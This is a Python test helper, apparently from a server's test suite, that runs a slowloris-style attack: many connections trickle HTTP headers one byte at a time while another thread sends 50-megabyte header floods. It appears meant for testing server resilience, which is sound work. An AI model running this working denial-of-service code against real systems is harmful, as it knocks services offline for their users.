"""Slow clients and a flood of headers, as a process of their own: ``python -m tests.serving.attackers HOST PORT 150``.

So many connections send headers a byte at a time and come again when they are cut; one more sends headers without end.
"""

import asyncio
import contextlib
import socket
import sys
import threading
import time

START = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-A: "
FLOOD = START + b"a" * 50_000_000


async def crawl(host: str, port: int) -> None:
    while True:
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection(host, port)
            with contextlib.closing(writer):
                writer.write(START)
                while not writer.is_closing():
                    await asyncio.sleep(1.0)
                    writer.write(b"a")
                    await writer.drain()


def flood(host: str, port: int) -> None:
    while True:
        with contextlib.suppress(OSError), socket.create_connection((host, port)) as connection:
            connection.sendall(FLOOD)
        time.sleep(0.2)


async def attack(host: str, port: int, count: int) -> None:
    threading.Thread(target=flood, args=(host, port), daemon=True).start()
    crawlers = [asyncio.create_task(crawl(host, port)) for _ in range(count)]
    print("attacking", flush=True)
    await asyncio.gather(*crawlers)


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
